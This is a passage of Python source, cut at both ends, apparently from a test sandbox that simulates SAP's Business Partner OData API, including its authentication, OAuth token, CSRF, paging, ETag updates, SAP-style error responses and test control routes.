    def _fix_name(
        self, bp: list[Any], customer: list[Any] | None, addresses: Sequence[int], r: Callable[[], float]
    ) -> None:
        current = bp[_BPX["BusinessPartnerFullName"]]
        if not current or not current.strip():
            name = f"{_GENERIC[int(r() * len(_GENERIC))]} {_SEGMENTS[0][5][int(r() * len(_SEGMENTS[0][5]))]}"
        elif current != " ".join(current.split()):
            name = " ".join(current.split())
            name = name.title() if name.islower() else name
        elif bp[_BPX["BusinessPartnerCategory"]] == "1":
            bp[_BPX["SearchTerm1"]] = (bp[_BPX["FirstName"]] or current).upper()[:20]
            return
        elif current.endswith(" Pvt Ltd"):
            name = current[: -len(" Pvt Ltd")] + " Ltd"
        else:
            name = (current + " Pvt Ltd")[:81]
        addr_table = self.tables["A_BusinessPartnerAddress"]
        addr_rows = [list(addr_table.rows[a]) for a in addresses]
        _rename(bp, customer, addr_rows, name)
        for a, row in zip(addresses, addr_rows, strict=True):
            addr_table.replace(a, tuple(row))

    def _new_mobile(self, address_index: int, r: Callable[[], float]) -> None:
        addr_table = self.tables["A_BusinessPartnerAddress"]
        phone_table = self.tables["A_AddressPhoneNumber"]
        addr = addr_table.rows[address_index]
        dial, prefix, digits = _dialling(addr[_ADX["Country"]])
        country = addr[_ADX["Country"]] if dial != "+91" else "IN"
        mobiles = addr_table.links["to_MobilePhoneNumber"][address_index]
        if mobiles:
            ordinal = int(phone_table.rows[mobiles[0]][_PHX["OrdinalNumber"]])
            fresh = _mobile_row(addr[_ADX["AddressID"]], ordinal, country, dial, prefix, digits, r)
            phone_table.replace(mobiles[0], fresh)
        else:
            used = [
                int(phone_table.rows[p][_PHX["OrdinalNumber"]])
                for p in addr_table.links["to_PhoneNumber"][address_index]
            ]
            fresh = _mobile_row(addr[_ADX["AddressID"]], max(used, default=0) + 1, country, dial, prefix, digits, r)
            addr_table.links["to_MobilePhoneNumber"][address_index] = (phone_table.append(fresh),)

    def _new_email(self, address_index: int, bp: list[Any], r: Callable[[], float]) -> None:
        addr_table = self.tables["A_BusinessPartnerAddress"]
        email_table = self.tables["A_AddressEmailAddress"]
        addr = addr_table.rows[address_index]
        stem = bp[_BPX["SearchTerm1"]] or bp[_BPX["BusinessPartnerFullName"]] or "office"
        mail = f"{_EMAIL_ROLES[int(r() * 4)]}.{_slug(stem, 16)}@{_FREE_MAIL[int(r() * len(_FREE_MAIL))]}"
        emails = addr_table.links["to_EmailAddress"][address_index]
        if emails:
            row = list(email_table.rows[emails[0]])
            row[_EMX["EmailAddress"]] = mail
            row[_EMX["SearchEmailAddress"]] = mail.upper()[:20]
            email_table.replace(emails[0], tuple(row))
        else:
            new = email_table.append(_build_email(addr[_ADX["AddressID"]], "1", True, mail, mail.upper()[:20]))
            addr_table.links["to_EmailAddress"][address_index] = (new,)

    def _touch(self, bp: list[Any], user: str, stamp: datetime) -> None:
        """Stamp a changed partner with the sandbox clock and bump its ETag revision."""
        previous = bp[_ETAG_AT] or ""
        revision = int(previous[-7:]) + 1 if previous[-7:].isdigit() else 1
        bp[_BPX["LastChangeDate"]] = wire_day(stamp.date().toordinal())
        bp[_BPX["LastChangeTime"]] = wire_time(_seconds_of_day(stamp))
        bp[_BPX["LastChangedByUser"]] = user[:12]
        bp[_ETAG_AT] = _make_etag(stamp, revision)

    # -- fault responses in SAP's shapes -------------------------------------------------------

    def unauthorized_response(self, req: SandboxRequest) -> SandboxResponse:
        """401 exactly like a failed logon (used by the ``expire_tokens`` fault too)."""
        if req.path == TOKEN_PATH:
            return SandboxResponse.json(
                401,
                {"error": "invalid_client", "error_description": "Bad client credentials"},
                [("www-authenticate", _REALM)],
            )
        return self._unauthorized(bearer=(req.headers.get("authorization") or "").lower().startswith("bearer"))

    def rate_limited_response(self, req: SandboxRequest, retry_after: str | None) -> SandboxResponse:
        """429 as SAP API Management (in front of the backend) answers a spike arrest."""
        headers = [("retry-after", retry_after)] if retry_after is not None else []
        return SandboxResponse.json(
            429,
            {
                "fault": {
                    "faultstring": "Rate limit quota violation. Quota limit exceeded. Identifier : _default",
                    "detail": {"errorcode": "policies.ratelimit.QuotaViolation"},
                }
            },
            headers,
        )

    def server_error_response(self, req: SandboxRequest, status: int, retry_after: str | None) -> SandboxResponse:
        """500 from the Gateway (OData error body); 502/503/504 from the ICM / web dispatcher (HTML)."""
        headers = [("retry-after", retry_after)] if retry_after is not None else []
        if status == 500:
            resp = self._error_body(
                req,
                ODataError(
                    500, _CODE_SERVER, "In the context of Data Services an unknown internal server error occurred"
                ),
            )
            resp.headers.extend(headers)
            return resp
        reason = {502: "Bad Gateway", 503: "Service Unavailable", 504: "Gateway Timeout"}.get(status, "Server Error")
        html = (
            f"<html><head><title>{status} {reason}</title></head><body><h2>{status} {reason}</h2>"
            "<p>The request was rejected by the HTTP filter or the ICM could not reach the application "
            "server. Contact your SAP administrator.</p></body></html>"
        )
        return SandboxResponse.text(status, html, "text/html; charset=utf-8", headers)

    # -- request handling ----------------------------------------------------------------------

    def handle(self, req: SandboxRequest) -> SandboxResponse:
        """Answer one API request (auth, CSRF, OData routes, token endpoint)."""
        if req.path == TOKEN_PATH:
            return self._token_endpoint(req)
        if req.path.startswith(SERVICE_ROOT) or req.path == SERVICE_ROOT[:-1]:
            return self._odata(req)
        return SandboxResponse.text(404, _ICF_404, "text/html; charset=utf-8")

    def _odata(self, req: SandboxRequest) -> SandboxResponse:
        method = req.method
        if method == "POST" and req.headers.get("x-http-method"):
            method = (req.headers.get("x-http-method") or "").upper()
        user = self._authenticate(req)
        if isinstance(user, SandboxResponse):
            return user
        rel = req.path[len(SERVICE_ROOT) :] if req.path.startswith(SERVICE_ROOT) else ""
        try:
            if method in _MODIFYING:
                denied = self._check_csrf(req, user)
                if denied is not None:
                    return denied
            resp = self._route(req, method, rel, user)
        except ODataError as exc:
            resp = self._error_body(req, exc)
        if method in ("GET", "HEAD") and (req.headers.get("x-csrf-token") or "").lower() == "fetch":
            resp.headers.extend(self._csrf_fetch(req, user))
        if method == "HEAD":
            resp.body = b""
        resp.headers.append(("dataserviceversion", "2.0"))
        return resp

    def _route(self, req: SandboxRequest, method: str, rel: str, user: str) -> SandboxResponse:
        if method not in ("GET", "HEAD", "PATCH", "MERGE", "PUT", "POST", "DELETE"):
            raise ODataError(405, _CODE_METHOD, f"Method '{method}' is not allowed")
        if rel in ("", "/"):
            self._only_reads(method)
            return self._service_document(req)
        if rel == "$metadata":
            self._only_reads(method)
            return SandboxResponse(200, [("content-type", _XML_CT)], self._metadata)
        if rel == "$batch":
            raise ODataError(501, _CODE_METHOD, "$batch is not supported by the sandbox; send individual requests")
        match = _RESOURCE_RE.fullmatch(rel)
        if match is None:
            raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{rel.split('/')[0]}'")
        table = self.tables.get(match.group("set"))
        if table is None:
            raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{match.group('set')}'")
        key_text, nav_name, count = match.group("key"), match.group("nav"), match.group("count")
        if method in ("PATCH", "MERGE"):
            if table is not self._bp or key_text is None or nav_name or count:
                raise ODataError(
                    405, _CODE_METHOD, f"Updates are supported on A_BusinessPartner('<id>') only, not on '{rel}'"
                )
            return self._update(req, _parse_key(table.etype, key_text), user)
        self._only_reads(method)
        if not count:  # SAP Gateway answers $count as text/plain whatever the Accept header says
            _negotiate(req)
        query = _parse_query(req)
        if key_text is None:
            if nav_name is not None:
                raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{nav_name}'")
            return self._count(req, table, None, query) if count else self._collection(req, table, None, query)
        index = table.find(_parse_key(table.etype, key_text))
        if index is None:
            raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{table.etype.name}'")
        if nav_name is None:
            if count:
                raise _bad_request("$count is only allowed on collections")
            return self._entity(req, table, index, query)
        nav = table.etype.nav.get(nav_name)
        if nav is None:
            raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{nav_name}'")
        target = self.tables[nav.target]
        link = table.links[nav_name][index]
        if nav.many:
            base = list(link)
            return self._count(req, target, base, query) if count else self._collection(req, target, base, query)
        if count:
            raise _bad_request("$count is only allowed on collections")
        if link < 0:
            raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{nav_name}'")
        return self._entity(req, target, link, query)

    @staticmethod
    def _only_reads(method: str) -> None:
        if method not in ("GET", "HEAD"):
            raise ODataError(405, _CODE_METHOD, f"Method '{method}' is not allowed on this resource")

    # -- reads ---------------------------------------------------------------------------------

    def _service_document(self, req: SandboxRequest) -> SandboxResponse:
        names = sorted(self.tables)
        if _wants_json(req):
            return SandboxResponse(200, [("content-type", _JSON_CT)], _dumps({"d": {"EntitySets": names}}))
        base = quoteattr(req.base_url + SERVICE_ROOT)
        collections = "".join(
            f'<app:collection href="{n}"><atom:title>{n}</atom:title></app:collection>' for n in names
        )
        xml = (
            '<?xml version="1.0" encoding="utf-8"?>'
            f'<app:service xml:base={base} xmlns:app="http://www.w3.org/2007/app" xmlns:atom="http://www.w3.org/2005/Atom">'
            f"<app:workspace><atom:title>Data</atom:title>{collections}</app:workspace></app:service>"
        )
        return SandboxResponse.text(200, xml, _XML_CT)

    def _shape(self, table: _Table, query: _Query) -> _Shape:
        select = _parse_select(query.select, table.etype, self.tables) if query.select else None
        expand = _parse_expand(query.expand, table.etype, self.tables) if query.expand else {}
        return _build_shape(table, select, expand, self.tables)

    def _entity(self, req: SandboxRequest, table: _Table, index: int, query: _Query) -> SandboxResponse:
        shape = self._shape(table, query)
        body = {"d": _renderer(shape, req.base_url + SERVICE_ROOT)(index)}
        headers = [("content-type", _JSON_CT)]
        if table.etype.has_etag:
            headers.append(("etag", _etag_header(table.rows[index][_ETAG_AT])))
        return SandboxResponse(200, headers, _dumps(body))

    def _count(self, req: SandboxRequest, table: _Table, base: list[int] | None, query: _Query) -> SandboxResponse:
        return SandboxResponse.text(200, str(len(self._resolve(table, base, query.filter, None))))

    def _collection(self, req: SandboxRequest, table: _Table, base: list[int] | None, query: _Query) -> SandboxResponse:
        with _gc_paused():
            return self._collection_page(req, table, base, query)

    def _collection_page(
        self, req: SandboxRequest, table: _Table, base: list[int] | None, query: _Query
    ) -> SandboxResponse:
        shape = self._shape(table, query)
        ids = self._resolve(table, base, query.filter, query.orderby)
        total = len(ids)
        limit = total if query.top is None else min(total, query.skip + query.top)
        start = min(query.skip, total)
        if query.skiptoken is not None:
            start = self._decode_skiptoken(table, ids, query.skiptoken)
        end = max(start, min(limit, start + self.max_page_size))
        render = _renderer(shape, req.base_url + SERVICE_ROOT)
        payload: dict[str, Any] = {}
        if query.inlinecount:
            payload["__count"] = str(total)
        payload["results"] = [render(i) for i in ids[start:end]]
        if end < limit:
            payload["__next"] = self._next_link(req, table, ids, end)
        return SandboxResponse(200, [("content-type", _JSON_CT)], _dumps({"d": payload}))

    def _resolve(
        self, table: _Table, base: list[int] | None, filter_text: str | None, orderby: str | None
    ) -> list[int] | range:
        """Row indices matching ``$filter`` in ``$orderby`` order (cached per data version)."""
        if base is None and not filter_text and not orderby:
            return range(len(table.rows))
        if base is None and filter_text:
            seek = self._key_seek(table, filter_text, orderby)
            if seek is not None:
                return seek
        key = (table.etype.set_name, filter_text, orderby, self._version, len(table.rows))
        if base is None:
            cached = self._results.get(key)
            if cached is not None:
                self._results.move_to_end(key)
                return cached
        ids: list[int] = list(range(len(table.rows))) if base is None else list(base)
        compiler = _FilterCompiler(self.tables, table)
        if filter_text:
            predicate = compiler.compile(filter_text)
            ids = [i for i in ids if predicate(i)]
        if orderby:
            self._sort(compiler, ids, orderby)
        if base is None:
            self._results[key] = ids
            while len(self._results) > _RESULT_CACHE_SIZE:
                self._results.popitem(last=False)
        return ids

    def _key_seek(self, table: _Table, filter_text: str, orderby: str | None) -> list[int] | None:
        """`[(<filter>) and ]<Key> gt '<k>'` ordered by the key: seek in the cached result, as an index would.

        Keyset paging sends a new `$filter` for every page; evaluating it row by row would cost the
        simulator a full scan per page, which a real SAP's database does not pay.
        """
        keys = table.etype.keys
        if len(keys) != 1 or (orderby or "").replace(" asc", "").strip() != keys[0]:
            return None
        match = _KEY_SEEK_RE.fullmatch(filter_text)
        if match is None or match.group("key") != keys[0]:
            return None
        rest = match.group("rest")
        if rest is not None:
            root = _FilterParser(filter_text).parse()
            right = root.args[1] if root.kind == "bin" and root.name == "and" else None
            if right is None or right.kind != "bin" or right.name != "gt" or right.args[0].kind != "member":
                return None  # `a or b and K gt 'x'` does not split at its last `and`
        ids = self._resolve(table, None, rest, orderby)
        after = match.group("value").replace("''", "'")
        key_of = table._key_of
        rows = table.rows
        return list(ids[bisect_right(ids, after, key=lambda i: key_of(rows[i])) :])

    @staticmethod
    def _sort(compiler: _FilterCompiler, ids: list[int], orderby: str) -> None:
        keys = []
        for item in orderby.split(","):
            parts = item.split()
            if not parts or len(parts) > 2 or (len(parts) == 2 and parts[1] not in ("asc", "desc")):
                raise _bad_request(f"Invalid $orderby item '{item.strip()}'")
            _edm, accessor = compiler.member(parts[0], 0, "$orderby")
            keys.append((accessor, len(parts) == 2 and parts[1] == "desc"))
        # Stable sorts from the least significant key; the row order (key order) breaks ties.
        # Nulls sort first ascending and last descending, as HANA does.
        for accessor, descending in reversed(keys):
            values = [accessor(i) for i in ids]
            if None in values:
                decorated = sorted(
                    zip([(v is not None, v) for v in values], ids, strict=True), key=itemgetter(0), reverse=descending
                )
            else:
                decorated = sorted(zip(values, ids, strict=True), key=itemgetter(0), reverse=descending)
            ids[:] = [i for _, i in decorated]

    def _next_link(self, req: SandboxRequest, table: _Table, ids: Sequence[int], end: int) -> str:
        anchor = table.key_path(table.rows[ids[end - 1]])
        token = base64.urlsafe_b64encode(f"{end}|{anchor}".encode()).decode().rstrip("=")
        pairs = [(k, v) for k, v in req.query if k != "$skiptoken"]
        pairs.append(("$skiptoken", token))
        return f"{req.base_url}{quote(req.path, safe=_PATH_SAFE)}?{_encode_query(pairs)}"

    def _decode_skiptoken(self, table: _Table, ids: Sequence[int], token: str) -> int:
        """Offset to resume at; if rows moved since the token was made, resume after its anchor row."""
        try:
            raw = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)).decode()
            offset_text, _, anchor = raw.partition("|")
            offset = int(offset_text)
        except (ValueError, UnicodeDecodeError):
            raise _bad_request(f"Invalid $skiptoken '{token}'") from None
        if offset < 0:
            raise _bad_request(f"Invalid $skiptoken '{token}'")
        if 0 < offset <= len(ids) and table.key_path(table.rows[ids[offset - 1]]) == anchor:
            return offset
        for position, i in enumerate(ids):
            if table.key_path(table.rows[i]) == anchor:
                return position + 1
        return min(offset, len(ids))

    # -- writes --------------------------------------------------------------------------------

    def _update(self, req: SandboxRequest, key: tuple[str, ...], user: str) -> SandboxResponse:
        index = self._bp.find(key)
        if index is None:
            raise ODataError(404, _CODE_NOT_FOUND, f"Resource not found for segment '{BP_TYPE.name}'")
        bp = list(self._bp.rows[index])
        current = _etag_header(bp[_ETAG_AT])
        if_match = req.headers.get("if-match")
        if not if_match:
            raise ODataError(
                428, _CODE_PRECONDITION, "Precondition required: send the entity's ETag in the If-Match header"
            )
        if not _etag_matches(if_match, current):
            raise ODataError(
                412, _CODE_PRECONDITION, "Precondition failed: the entity was changed by someone else (ETag mismatch)"
            )
        try:
            payload = req.json()
        except ValueError:
            raise _bad_request("The request body is not valid JSON") from None
        if isinstance(payload, dict) and set(payload) == {"d"} and isinstance(payload["d"], dict):
            payload = payload["d"]
        if not isinstance(payload, dict):
            raise _bad_request("The request body must be a JSON object with the properties to change")
        changes = self._validate_changes(bp, payload)
        if changes:
            for name, value in changes.items():
                bp[_BPX[name]] = value
            names = {
                "OrganizationBPName1",
                "OrganizationBPName2",
                "OrganizationBPName3",
                "OrganizationBPName4",
                "FirstName",
                "LastName",
            }
            if names & changes.keys():
                self._derive_names(index, bp)
            self._touch(bp, user, self.now())
            self._bp.replace(index, tuple(bp))
            self._version += 1
        return SandboxResponse(204, [("etag", _etag_header(bp[_ETAG_AT]))])

    @staticmethod
    def _validate_changes(bp: list[Any], payload: Mapping[str, Any]) -> dict[str, Any]:
        changes: dict[str, Any] = {}
        for name, value in payload.items():
            if name == "__metadata":
                continue
            if name in BP_TYPE.nav:
                raise _bad_request(f"Deep update of navigation property '{name}' is not supported")
            prop = BP_TYPE.prop.get(name)
            if prop is None:
                raise _bad_request(f"Property '{name}' is invalid")
            current = bp[_BPX[name]]
            if not prop.updatable:
                if value != current:
                    raise _bad_request(f"Property '{name}' is read-only and cannot be changed")
                continue
            if value is None:
                if not prop.nullable:
                    raise _bad_request(f"Property '{name}' must not be null")
            elif prop.edm == "Edm.Boolean":
                if not isinstance(value, bool):
                    raise _bad_request(f"Invalid value for property '{name}': expected true or false")
            elif prop.edm == "Edm.String":
                if not isinstance(value, str) or any(ord(ch) < 32 for ch in value):
                    raise _bad_request(f"Invalid value for property '{name}': expected a string")
                if prop.max_length is not None and len(value) > prop.max_length:
                    raise _bad_request(f"Value for property '{name}' is longer than {prop.max_length} characters")
            elif prop.edm == "Edm.DateTime" and (
                not isinstance(value, str) or not re.fullmatch(r"/Date\(-?\d+\)/", value)
            ):
                raise _bad_request(f"Invalid value for property '{name}': expected \"/Date(<ms>)/\"")
            if value != current:
                changes[name] = value
        return changes

    def _derive_names(self, index: int, bp: list[Any]) -> None:
        """Recompute the derived full names and propagate them to customer and addresses."""
        if bp[_BPX["BusinessPartnerCategory"]] == "1":
            full = " ".join(p for p in (bp[_BPX["FirstName"]], bp[_BPX["LastName"]]) if p)[:81]
            bp[_BPX["PersonFullName"]] = full[:80]
        else:
            parts = (bp[_BPX[f"OrganizationBPName{n}"]] for n in range(1, 5))
            full = " ".join(p for p in parts if p)[:81]
        bp[_BPX["BusinessPartnerFullName"]] = bp[_BPX["BusinessPartnerName"]] = full
        cust_index = self._bp.links["to_Customer"][index]
        if cust_index >= 0:
            table = self.tables["A_Customer"]
            customer = list(table.rows[cust_index])
            customer[_CUX["CustomerName"]] = full[:80]
            customer[_CUX["BPCustomerName"]] = full
            customer[_CUX["BPCustomerFullName"]] = full
            table.replace(cust_index, tuple(customer))
        addr_table = self.tables["A_BusinessPartnerAddress"]
        for a in self._bp.links["to_BusinessPartnerAddress"][index]:
            addr = list(addr_table.rows[a])
            addr[_ADX["FullName"]] = full[:80]
            addr_table.replace(a, tuple(addr))

    # -- authentication, OAuth, CSRF -----------------------------------------------------------

    def _authenticate(self, req: SandboxRequest) -> str | SandboxResponse:
        """The logged-on user, or the 401 answer."""
        client = req.query_get("sap-client")
        header = req.headers.get("authorization") or ""
        scheme, _, credentials = header.partition(" ")
        scheme = scheme.lower()
        if client is not None and client != self.sap_client:
            return self._unauthorized(bearer=scheme == "bearer")
        if scheme == "basic":
            try:
                user, _, password = base64.b64decode(credentials.strip(), validate=True).decode("utf-8").partition(":")
            except (ValueError, UnicodeDecodeError):
                return self._unauthorized()
            if _same(user.upper(), self.username.upper()) and _same(password, self.password):
                return self.username
            return self._unauthorized()
        if scheme == "bearer":
            entry = self._tokens.get(credentials.strip())
            if entry is not None and entry.expires_at > self.now().timestamp():
                return entry.user
            return self._unauthorized(bearer=True)
        return self._unauthorized()

    def _unauthorized(self, bearer: bool = False) -> SandboxResponse:
        headers = [("www-authenticate", _REALM)]
        if bearer:
            headers.append(
                (
                    "www-authenticate",
                    'Bearer error="invalid_token", error_description="The access token is invalid or has expired"',
                )
            )
        html = (
            '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            "<title>Logon Error Message</title></head><body><h2>401 Unauthorized</h2>"
            "<p>Logon failed. The user name or password (or access token) is incorrect, or the account is locked.</p>"
            f"<p>Server time: {self.now():%Y-%m-%d %H:%M:%S} UTC</p></body></html>"
        )
        return SandboxResponse.text(401, html, "text/html; charset=utf-8", headers)

    def _token_endpoint(self, req: SandboxRequest) -> SandboxResponse:
        no_store = [("cache-control", "no-store"), ("pragma", "no-cache")]
        if req.method != "POST":
            return SandboxResponse.json(405, {"error": "invalid_request", "error_description": "use POST"}, no_store)
        form = dict(parse_qsl(req.body.decode("utf-8", "replace"), keep_blank_values=True))
        client_id, client_secret = form.get("client_id", ""), form.get("client_secret", "")
        header = req.headers.get("authorization") or ""
        if header.lower().startswith("basic "):
            try:
                client_id, _, client_secret = (
                    base64.b64decode(header[6:].strip(), validate=True).decode("utf-8").partition(":")
                )
            except (ValueError, UnicodeDecodeError):
                client_id = client_secret = ""
        if not (_same(client_id, self.client_id) and _same(client_secret, self.client_secret)):
            return SandboxResponse.json(
                401,
                {"error": "invalid_client", "error_description": "Bad client credentials"},
                [("www-authenticate", _REALM), *no_store],
            )
        if form.get("grant_type") != "client_credentials":
            return SandboxResponse.json(
                400,
                {"error": "unsupported_grant_type", "error_description": "grant_type must be client_credentials"},
                no_store,
            )
        now = self.now().timestamp()
        if len(self._tokens) > 1000:
            self._tokens = {t: e for t, e in self._tokens.items() if e.expires_at > now}
        token = secrets.token_urlsafe(32)
        self._tokens[token] = _AccessToken(client_id, self.username, now + self.token_ttl_s)
        body = {
            "access_token": token,
            "token_type": "Bearer",
            "expires_in": self.token_ttl_s,
            "scope": "API_BUSINESS_PARTNER_0001",
        }
        return SandboxResponse.json(200, body, no_store)

    def _session_from_cookie(self, req: SandboxRequest) -> tuple[str | None, _Session | None]:
        for header in req.headers.get_all("cookie"):
            for part in header.split(";"):
                name, _, value = part.strip().partition("=")
                if name == self.session_cookie:
                    return value, self._sessions.get(value)
        return None, None

    def _csrf_fetch(self, req: SandboxRequest, user: str) -> list[tuple[str, str]]:
        now = self.now().timestamp()
        sid, session = self._session_from_cookie(req)
        if session is None or session.user != user or session.expires_at <= now:
            sid = secrets.token_urlsafe(24)
            session = _Session(base64.b64encode(secrets.token_bytes(16)).decode(), user, now + self.csrf_ttl_s)
            self._sessions[sid] = session
            while len(self._sessions) > 10_000:
                self._sessions.popitem(last=False)
        return [
            ("x-csrf-token", session.token),
            ("set-cookie", f"{self.session_cookie}={sid}; path=/; HttpOnly"),
            ("set-cookie", f"sap-usercontext=sap-client={self.sap_client}; path=/"),
        ]

    def _check_csrf(self, req: SandboxRequest, user: str) -> SandboxResponse | None:
        token = req.headers.get("x-csrf-token") or ""
        _sid, session = self._session_from_cookie(req)
        valid = (
            session is not None
            and token.lower() != "fetch"
            and _same(token, session.token)
            and session.user == user
            and session.expires_at > self.now().timestamp()
        )
        if valid:
            return None
        return SandboxResponse.text(403, "CSRF token validation failed", headers=[("x-csrf-token", "Required")])

    # -- errors --------------------------------------------------------------------------------

    def _error_body(self, req: SandboxRequest, exc: ODataError) -> SandboxResponse:
        """SAP Gateway error body: JSON for JSON clients, the V2 XML error otherwise."""
        self._txn += 1
        stamp = self.now()
        txn = _transaction_id(f"{self.seed}:{self._txn}:{exc.message}")
        timestamp = f"{stamp:%Y%m%d%H%M%S}.{stamp.microsecond:06d}0"
        if _wants_json(req):
            body = {
                "error": {
                    "code": exc.code,
                    "message": {"lang": "en", "value": exc.message},
                    "innererror": {
                        "application": {
                            "component_id": "LO-MD-BP",
                            "service_namespace": "/SAP/",
                            "service_id": SERVICE_NAME,
                            "service_version": "0001",
                        },
                        "transactionid": txn,
                        "timestamp": timestamp,
                        "Error_Resolution": {"SAP_Transaction": _SAP_TRANSACTION, "SAP_Note": _SAP_NOTE},
                        "errordetails": [
                            {
                                "code": exc.code,
                                "message": exc.message,
                                "propertyref": "",
                                "severity": "error",
                                "target": "",
                            }
                        ],
                    },
                }
            }
            return SandboxResponse(exc.status, [("content-type", _JSON_CT), *exc.headers], _dumps(body))
        xml = (
            '<?xml version="1.0" encoding="utf-8"?>'
            '<error xmlns="http://schemas.microsoft.com/ado/2007/08/dataservices/metadata">'
            f'<code>{xml_escape(exc.code)}</code><message xml:lang="en">{xml_escape(exc.message)}</message>'
            f"<innererror><transactionid>{txn}</transactionid><timestamp>{timestamp}</timestamp></innererror></error>"
        )
        return SandboxResponse(exc.status, [("content-type", _XML_CT), *exc.headers], xml.encode())

    # -- control routes ------------------------------------------------------------------------

    def control_routes(self) -> list[str]:
        """SAP-specific control routes (listed by ``GET /_sandbox``)."""
        return [
            "GET /_sandbox/sap/info",
            "GET /_sandbox/sap/dirty",
            'POST /_sandbox/sap/mutate {"count": N, "seed": optional}',
            'POST /_sandbox/sap/add-partners {"count": N}',
            'POST /_sandbox/sap/expire-tokens {"kind": "all" | "oauth" | "csrf"}',
            'POST /_sandbox/sap/clock {"advance_s": seconds}',
            'POST /_sandbox/sap/set-field {"partner": id, "field": name, "value": any JSON}',
        ]

    def handle_control(self, req: SandboxRequest) -> SandboxResponse | None:
        """``/_sandbox/sap/*`` routes."""
        route = req.path.rstrip("/")
        prefix = "/_sandbox/sap/"
        if not route.startswith(prefix):
            return None
        action = route[len(prefix) :]
        if req.method == "GET" and action == "info":
            return SandboxResponse.json(200, self._info())
        if req.method == "GET" and action == "dirty":
            return SandboxResponse.json(200, {"count": len(self.dirty_ids), "dirty": self.dirty_ids})
        if req.method != "POST" or action not in ("mutate", "add-partners", "expire-tokens", "clock", "set-field"):
            return None
        body, error = control_json_body(req)
        if error is not None:
            return error
        try:
            if action == "mutate":
                seed = body.get("seed")
                changed = self.mutate(
                    _non_negative_int(body.get("count", 1), "count"), None if seed is None else int(seed)
                )
                return SandboxResponse.json(200, {"changed": changed, "count": len(changed)})
            if action == "add-partners":
                added = self.add_partners(_non_negative_int(body.get("count", 1), "count"))
                return SandboxResponse.json(200, {"added": added, "count": len(added)})
            if action == "expire-tokens":
                return SandboxResponse.json(200, {"expired": self.expire_tokens(str(body.get("kind", "all")))})
            if action == "set-field":
                self.set_raw_field(str(body.get("partner", "")), str(body.get("field", "")), body.get("value"))
                return SandboxResponse.json(200, {"partner": body.get("partner"), "field": body.get("field")})
            advance = body.get("advance_s", 0)
            if not isinstance(advance, int | float) or isinstance(advance, bool):
                raise ValueError("advance_s must be a number of seconds")
            return SandboxResponse.json(200, {"now": self.advance_clock(float(advance)).isoformat()})
        except KeyError as exc:
            return SandboxResponse.json(404, {"error": f"unknown partner {exc}"})
        except (TypeError, ValueError) as exc:
            return SandboxResponse.json(400, {"error": str(exc)})

    def _info(self) -> dict[str, Any]:
        return {
            "simulator": self.name,
            "service_root": SERVICE_ROOT,
            "token_path": TOKEN_PATH,
            "partners": self.partner_count,
            "customers": len(self.tables["A_Customer"].rows),
            "seed": self.seed,
            "max_page_size": self.max_page_size,
            "username": self.username,
            "client_id": self.client_id,
            "sap_client": self.sap_client,
            "session_cookie": self.session_cookie,
            "now": self.now().isoformat(),
            "anchor_date": ANCHOR_DATE.isoformat(),
            "dirty": len(self.dirty_ids),
            "data_version": self._version,
            "faults": self.faults.switches.active(),
        }


def _dialling(country: str | None) -> tuple[str, str, int]:
    """(dialling code, mobile prefix, mobile digits) for a country; India for unknown codes."""
    for code, cities in _FOREIGN:
        if code == country:
            _city, _region, _postal, dial, prefix, digits = cities[0]
            return dial, prefix, digits
    return "+91", "", 10


@contextmanager
def _gc_paused() -> Iterator[None]:
    """Pause the cyclic GC while a page is rendered.

    A page is tens of thousands of fresh, acyclic dicts; reference counting frees them, but
    the cyclic collector would traverse them again and again (~40% of the render time).
    """
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if was_enabled:
            gc.enable()


_NO_ROWS = range(0)


def _span(start: int, stop: int) -> range:
    """Row indices of a partner's children: they are stored contiguously.

    Ranges are not tracked by the cyclic GC and need no int objects per element, unlike tuples.
    """
    return range(start, stop) if stop > start else _NO_ROWS


def _non_negative_int(value: Any, name: str) -> int:
    if isinstance(value, bool) or not isinstance(value, int) or value < 0:
        raise ValueError(f"{name} must be a non-negative integer")
    return value


def _same(a: str, b: str) -> bool:
    return hmac.compare_digest(a.encode(), b.encode())


def _etag_matches(if_match: str, current: str) -> bool:
    candidates = [c.strip() for c in if_match.split(",")]
    bare = current[2:] if current.startswith("W/") else current
    return any(c == "*" or c == current or (c[2:] if c.startswith("W/") else c) == bare for c in candidates)


def _seconds_of_day(stamp: datetime) -> int:
    return stamp.hour * 3600 + stamp.minute * 60 + stamp.second


def _transaction_id(text: str) -> str:
    """Deterministic, SAP-looking 32-hex-digit transaction id."""
    return hashlib.md5(text.encode(), usedforsecurity=False).hexdigest().upper()


# ============================================================================================
# $metadata
# ============================================================================================


def _metadata_xml() -> str:
    """A small but valid EDMX (OData V2) describing exactly what the sandbox serves."""
    ns = NAMESPACE
    out = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<edmx:Edmx Version="1.0" xmlns:edmx="http://schemas.microsoft.com/ado/2007/06/edmx" '
        'xmlns:m="http://schemas.microsoft.com/ado/2007/08/dataservices/metadata" '
        'xmlns:sap="http://www.sap.com/Protocols/SAPData">',
        ' <edmx:DataServices m:DataServiceVersion="2.0">',
        f'  <Schema Namespace="{ns}" xml:lang="en" sap:schema-version="1" xmlns="http://schemas.microsoft.com/ado/2008/09/edm">',
    ]
    associations: list[tuple[str, EntityType, Nav]] = []
    for etype in ENTITY_TYPES:
        out.append(f'   <EntityType Name="{etype.name}" sap:content-version="1">')
        out.append("    <Key>" + "".join(f'<PropertyRef Name="{k}"/>' for k in etype.keys) + "</Key>")
        for prop in etype.props:
            attrs = [f'Name="{prop.name}"', f'Type="{prop.edm}"']
            if not prop.nullable:
                attrs.append('Nullable="false"')
            if prop.max_length is not None:
                attrs.append(f'MaxLength="{prop.max_length}"')
            if prop.edm in ("Edm.DateTime", "Edm.Time"):
                attrs.append('Precision="0"')
            elif prop.edm == "Edm.DateTimeOffset":
                attrs.append('Precision="7"')
            if prop.date_only:
                attrs.append('sap:display-format="Date"')
            if not prop.updatable and prop.name not in etype.keys:
                attrs.append('sap:creatable="false" sap:updatable="false"')
